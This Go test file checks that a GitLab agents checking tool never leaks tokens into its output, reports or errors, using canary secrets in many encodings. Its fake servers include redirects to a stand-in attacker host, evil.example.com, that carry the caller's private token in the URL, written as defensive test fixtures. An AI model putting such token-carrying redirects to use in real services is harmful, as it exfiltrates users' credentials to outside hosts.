package main

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"example.com/gitlab-agents/contract/fakegitlab"
	"example.com/gitlab-agents/contract/internal/racedetector"
	"example.com/gitlab-agents/contract/report"
)

// canaryOf is a secret that looks different in every encoding.
func canaryOf(name string) string { return `cAn4ry-"<` + name + `>\&'+/%3D~{}` }

// encodings are what a secret may look like: as it is, in URLs, in JSON, between a shell's quotes, in hexadecimal and,
// wherever it begins, in base64. Of these inner is the part that nothing around it changes.
func encodings(secret string) (whole, inner map[string]string) {
	whole = map[string]string{
		"raw": secret, "query": url.QueryEscape(secret), "path": url.PathEscape(secret), "percent": percent(secret),
		"hex": hex.EncodeToString([]byte(secret)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(secret))),
		"shell": strings.ReplaceAll(secret, "'", `'\''`),
	}
	html, _ := json.Marshal(secret)
	whole["JSON for HTML"] = strings.Trim(string(html), `"`)
	var plain bytes.Buffer
	encoder := json.NewEncoder(&plain)
	encoder.SetEscapeHTML(false)
	_ = encoder.Encode(secret)
	whole["JSON"] = strings.Trim(plain.String(), "\"\n")
	inner = maps.Clone(whole)
	for shift := range 3 {
		for name, encoding := range map[string]*base64.Encoding{"base64": base64.StdEncoding, "base64 for URLs": base64.URLEncoding} {
			name = fmt.Sprint(name, " at ", shift)
			whole[name] = encoding.EncodeToString([]byte(strings.Repeat("x", shift) + secret + "xx"))
			inner[name] = whole[name][4 : len(whole[name])-8]
		}
	}
	return whole, inner
}

func percent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02x", c)
	}
	return b.String()
}

// tokens are the secrets of agent tokens by what their URLs end with. A client knows a secret, and so has to keep it, if
// it asks for the token.
type tokens struct {
	mu    sync.Mutex
	made  map[string]string
	known []string
}

func (t *tokens) add(id int64, secret string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.made[fmt.Sprintf("/tokens/%d", id)] = secret
}

func (t *tokens) asked(path string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if i := strings.LastIndex(path, "/tokens/"); i >= 0 && t.made[path[i:]] != "" {
		t.known = append(t.known, t.made[path[i:]])
		delete(t.made, path[i:])
	}
}

func (t *tokens) all() []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return slices.Clone(t.known)
}

// echo is a server that shows every secret it knows in every place and encoding that it can, so that all of them are
// in findings, reasons and errors.
func echo(gitlab http.Handler, told *tokens) http.Handler {
	var n atomic.Int64
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		answer := httptest.NewRecorder()
		gitlab.ServeHTTP(answer, r)
		told.asked(r.URL.Path)
		var all []string
		for _, secret := range append(told.all(), r.Header.Get("Private-Token")) {
			if len(secret) < 20 {
				continue
			}
			whole, _ := encodings(secret)
			for form, text := range whole {
				if form != "shell" && !strings.HasPrefix(form, "JSON") { // which bodies and curl lines make of it
					all = append(all, text)
				}
			}
		}
		said := strings.Join(all, " ")
		h := answer.Header()
		h.Del("Content-Length")
		h.Set("Cache-Control", "public, "+said)
		h.Set("Etag", said)
		h.Set("X-Request-Id", said)
		if i := n.Add(1); i > 70 { // first it is a GitLab in which something can be made
			switch i % 5 {
			case 0:
				answer.Code = http.StatusFound
				h.Set("Location", "https://evil.example.com/?private_token="+url.QueryEscape(r.Header.Get("Private-Token"))+"&x="+said)
			case 1:
				body, _ := json.Marshal(map[string]string{"message": strings.Repeat("x", int(i)) + said, "error": said, said: said})
				answer.Code, answer.Body = http.StatusTeapot, bytes.NewBuffer(body)
			case 2:
				answer.Code, answer.Body = http.StatusNotFound, bytes.NewBufferString(`{"message":`+said)
			}
		}
		var token struct {
			ID    int64
			Token string
		}
		if answer.Code == http.StatusCreated && json.Unmarshal(answer.Body.Bytes(), &token) == nil && token.Token != "" {
			told.add(token.ID, token.Token)
		}
		if answer.Code < 300 && strings.Contains(r.URL.Path, "cluster_agents") {
			quoted, _ := json.Marshal(said)
			answer.Body = bytes.NewBufferString(strings.ReplaceAll(answer.Body.String(), `"status":"active"`, `"status":`+string(quoted)))
		}
		for name, values := range h {
			w.Header()[name] = values
		}
		w.WriteHeader(answer.Code)
		_, _ = answer.Body.WriteTo(w)
	})
}

// TestCheckHasNoSecrets searches everything that a check writes for every secret that it comes across.
func TestCheckHasNoSecrets(t *testing.T) {
	racedetector.Skip(t)
	t.Parallel()
	seed := fakegitlab.DefaultSeed()
	for i := range seed.Users {
		seed.Users[i].Tokens[0].Token = canaryOf(seed.Users[i].Name)
	}
	var made atomic.Int64
	agentToken := &fakegitlab.Deviation{Secret: func(string) string { return canaryOf(fmt.Sprintf("agent-token-%d", made.Add(1))) }}
	told := &tokens{made: make(map[string]string)}
	gitlab := startInstance(t, func(next http.Handler) http.Handler { return echo(next, told) }, fakegitlab.FromSeed(seed), fakegitlab.Deviate(agentToken))

	env := environment{
		"GITLAB_TOKEN": canaryOf("maintainer"), "GITLAB_DEVELOPER_TOKEN": canaryOf("developer"), "CI_JOB_TOKEN": canaryOf("job"),
	}
	dir := t.TempDir()
	args := gitlab.args(t, "--verbose", "--strict", "--guest-token-file", file(t, "guest", canaryOf("guest")), "--stranger-token-file", file(t, "stranger", canaryOf("stranger")))
	for _, name := range report.Names() {
		args = append(args, "--report", name+"="+filepath.Join(dir, name))
	}
	out := glagentsIn(t.Context(), env, args...)
	require.Equal(t, 1, out.status, "%s", out.stderr)
	artefacts := map[string]string{"stdout": out.stdout, "stderr": out.stderr}
	journal := args[8]
	require.NoError(t, filepath.Walk(dir, func(path string, info os.FileInfo, err error) error { return take(artefacts, path, info, err) }))
	require.NoError(t, filepath.Walk(journal, func(path string, info os.FileInfo, err error) error { return take(artefacts, path, info, err) }))
	require.GreaterOrEqual(t, len(artefacts), 2+len(report.Names()))
	assert.Greater(t, len(out.stdout), 50_000, "there is little to search")
	assert.Greater(t, strings.Count(out.stdout, "[redacted]"), 500, "little was redacted")

	secrets := append([]string{canaryOf("maintainer"), canaryOf("developer"), canaryOf("guest"), canaryOf("stranger"), canaryOf("job")}, told.all()...)
	require.Greater(t, len(secrets), 5, "no token of an agent is among them")
	searched := assertNoSecrets(t, artefacts, secrets...)
	t.Logf("%d searches in %d artefacts", searched, len(artefacts))
}

func take(artefacts map[string]string, path string, info os.FileInfo, err error) error {
	if err != nil || info.IsDir() {
		return err
	}
	data, err := os.ReadFile(path)
	artefacts[path] = string(data)
	return err
}

// TestErrorsHaveNoSecrets: the errors with which commands end.
func TestErrorsHaveNoSecrets(t *testing.T) {
	t.Parallel()
	secret := canaryOf("maintainer")
	echoing := func(status int) string {
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			token := r.Header.Get("Private-Token")
			w.Header().Set("Location", "https://evil.example.com/"+url.PathEscape(token))
			w.Header().Set("X-Request-Id", token)
			w.WriteHeader(status)
			fmt.Fprintf(w, `{"message":%q}`, token)
		}))
		t.Cleanup(server.Close)
		return server.URL
	}
	env := environment{"GITLAB_TOKEN": secret}
	for _, args := range [][]string{
		{"check", "--project", "20", "--url", echoing(401)},
		{"check", "--project", "20", "--url", echoing(403)},
		{"check", "--project", "20", "--url", echoing(404)},
		{"check", "--project", "20", "--url", echoing(302)},
		{"check", "--project", "20", "--url", echoing(200)},
		{"check", "--project", "20", "--url", "http://127.0.0.1:1"},
		{"check", "--project", secret, "--url", echoing(404)},
		{"check", "--project", "20", "--url", "http://127.0.0.1:1/" + url.PathEscape(secret)},
		{"check", "--project", "20", "--url", "https://me:" + url.PathEscape(secret) + "@gitlab.example.com"},
		{"check", "--project", "20", "--url", "https://gitlab.example.com/?private_token=" + url.QueryEscape(secret)},
		{"check", "--project", "20", "--url", "http://gitlab.example.com/" + url.PathEscape(secret)},
		{"check", secret}, {secret}, {"check", "--" + secret}, {"check", "--rule", secret}, {"check", "--gitlab-version", secret}, {"check", "--edition", secret},
		{"check", "--timeout", secret}, {"check", "--report", secret}, {"check", "--known-failures", secret},
		{"check", "--token-file", "/nowhere/" + secret, "--project", "20", "--url", "https://gitlab.example.com"},
		{"rules", secret}, {"rules", "--format", secret}, {"sweep", secret}, {"sweep", "--" + secret},
	} {
		args = append(args, "--journal", t.TempDir())
		if args[0] != "check" && args[0] != "sweep" {
			args = args[:len(args)-2]
		}
		out := glagentsIn(t.Context(), env, args...)
		assert.NotZero(t, out.status, "%v", args)
		assert.NotContains(t, out.stdout+out.stderr, "cAn4ry", "%v", args)
	}
}
